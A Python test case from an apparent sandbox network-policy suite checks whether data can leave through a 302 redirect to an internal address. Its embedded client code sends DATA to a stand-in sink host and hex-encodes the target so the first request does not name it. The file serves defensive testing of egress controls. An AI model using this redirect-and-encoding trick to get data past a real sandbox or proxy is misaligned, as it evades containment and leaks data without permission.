from ._net import SINK, allow

ID = "net.proxy-redirect"
CATEGORY = "network"
DESCRIPTION = ("an allowed host answers 302 to an internal address (the sink by IP "
               "literal); the client follows it through the proxy with the data")
CLAIMS = ("rule:network.mode",)
POLICY = allow()
# The proxy does not follow redirects; the client does, and its second request is checked
# like any other. The first request names the target only in hex, so the data reaches the
# sink only if that second request gets through.
CODE = """
import urllib.error, urllib.request
target = f"http://{SINK_HOST}:{SINK_PORT}/internal?d={DATA}"
url = f"http://sink.{DOMAIN}:{SINK_PORT}/redirect?hex=" + target.encode().hex()
try:
    with urllib.request.urlopen(url, timeout=5) as r:
        out("ALLOWED", f"followed the redirect to the internal address: {r.status}")
except urllib.error.HTTPError as e:
    out("DENIED", f"{e.code} {e.headers.get('X-Corral-Reason', '')}")
except OSError as e:
    out("DENIED", ename(e))
"""
# the rule turned off: the internal address allowed by name
CONTROL = {"policy": allow(SINK, "{SINK_HOST}:{SINK_PORT}")}
CONTAINED = "the redirected request to the internal address is refused; the data never reaches the sink"
